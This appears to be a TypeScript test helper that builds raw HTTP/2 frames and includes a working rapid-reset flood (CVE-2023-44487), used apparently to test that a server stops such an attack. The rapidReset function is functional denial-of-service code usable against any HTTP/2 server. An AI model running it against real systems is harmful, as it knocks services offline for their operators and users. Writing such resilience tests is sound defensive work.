/**
 * Raw HTTP/2 frames for tests that must send what no well-behaved client sends (a rapid-reset
 * flood: HEADERS then RST_STREAM, thousands of times). Headers are HPACK literals without
 * indexing (RFC 7541 §6.2.2) behind static-table names, so no encoder state is needed.
 */
import { H2_PREFACE } from '../../packages/ingest/src/backends/classify.ts';

export { H2_PREFACE };

export const FRAME = {
  DATA: 0x0,
  HEADERS: 0x1,
  RST_STREAM: 0x3,
  SETTINGS: 0x4,
  PING: 0x6,
  GOAWAY: 0x7,
} as const;
export const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4 } as const;
export const CODE = { NO_ERROR: 0x0, CANCEL: 0x8, ENHANCE_YOUR_CALM: 0xb } as const;

export function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream & 0x7fffffff, 5);
  return Buffer.concat([head, payload]);
}

function literal(nameIndex: number, value: string): Buffer {
  const v = Buffer.from(value, 'latin1');
  if (v.length > 126) throw new Error('test HPACK literal too long');
  // 0000xxxx: literal without indexing, name from the static table (index < 15).
  return Buffer.concat([Buffer.from([nameIndex, v.length]), v]);
}

/** HEADERS for `POST path` (no END_STREAM: a body would follow), scheme https or http. */
export function postHeaders(stream: number, path: string, https: boolean, authority = '127.0.0.1'): Buffer {
  const block = Buffer.concat([
    Buffer.from([0x83, https ? 0x87 : 0x86]), // :method POST, :scheme https|http (static 3, 7|6)
    literal(4, path), // :path
    literal(1, authority), // :authority
  ]);
  return frame(FRAME.HEADERS, FLAG.END_HEADERS, stream, block);
}

export function rstStream(stream: number, code: number = CODE.CANCEL): Buffer {
  const p = Buffer.alloc(4);
  p.writeUInt32BE(code);
  return frame(FRAME.RST_STREAM, 0, stream, p);
}

export const settings = (): Buffer => frame(FRAME.SETTINGS, 0, 0);
export const settingsAck = (): Buffer => frame(FRAME.SETTINGS, FLAG.ACK, 0);

export interface Frame {
  type: number;
  flags: number;
  stream: number;
  payload: Buffer;
}

/** Splits a byte stream into frames; keep the returned function and feed it every chunk. */
export function frameReader(onFrame: (f: Frame) => void): (chunk: Buffer) => void {
  let buf: Buffer = Buffer.alloc(0);
  return (chunk) => {
    buf = buf.length ? Buffer.concat([buf, chunk]) : chunk;
    while (buf.length >= 9) {
      const len = buf.readUIntBE(0, 3);
      if (buf.length < 9 + len) break;
      onFrame({
        type: buf[3]!,
        flags: buf[4]!,
        stream: buf.readUInt32BE(5) & 0x7fffffff,
        payload: buf.subarray(9, 9 + len),
      });
      buf = buf.subarray(9 + len);
    }
  };
}

export interface FloodResult {
  /** The server's GOAWAY, if one came. */
  goaway?: { lastStream: number; code: number };
  /** The server closed the connection (not this side, giving up `ms` + 2 s after the start). */
  closed: boolean;
  /** HEADERS + RST_STREAM pairs written. */
  streams: number;
}

/**
 * The rapid-reset attack (CVE-2023-44487) on a connected socket (plain for h2c, TLS with ALPN h2):
 * the preface, then `POST path` HEADERS each followed at once by RST_STREAM(CANCEL), 100 pairs
 * per write, until the server says GOAWAY or closes, `maxStreams` pairs are sent or `ms` pass.
 */
export function rapidReset(
  socket: import('node:net').Socket,
  path: string,
  https: boolean,
  { maxStreams = 50_000, ms = 10_000 } = {},
): Promise<FloodResult> {
  return new Promise((resolve) => {
    const result: FloodResult = { closed: false, streams: 0 };
    let id = 1;
    let stopped = false;
    const until = Date.now() + ms;
    const stop = () => {
      stopped = true;
    };
    let gaveUp = false;
    const timer = setTimeout(() => {
      gaveUp = true;
      stop();
      socket.destroy();
    }, ms + 2000);
    socket.on(
      'data',
      frameReader((f) => {
        if (f.type === FRAME.SETTINGS && !(f.flags & FLAG.ACK)) socket.write(settingsAck());
        if (f.type === FRAME.GOAWAY) {
          result.goaway = {
            lastStream: f.payload.readUInt32BE(0) & 0x7fffffff,
            code: f.payload.readUInt32BE(4),
          };
          stop();
        }
      }),
    );
    socket.on('error', () => {});
    socket.once('close', () => {
      result.closed = !gaveUp;
      stop();
      clearTimeout(timer);
      resolve(result);
    });
    const pump = () => {
      while (!stopped && result.streams < maxStreams && Date.now() < until) {
        const batch: Buffer[] = [];
        for (let i = 0; i < 100 && result.streams < maxStreams; i++, result.streams++, id += 2)
          batch.push(postHeaders(id, path, https), rstStream(id));
        if (!socket.write(Buffer.concat(batch))) return void socket.once('drain', pump);
      }
    };
    socket.write(Buffer.concat([H2_PREFACE, settings()]));
    pump();
  });
}
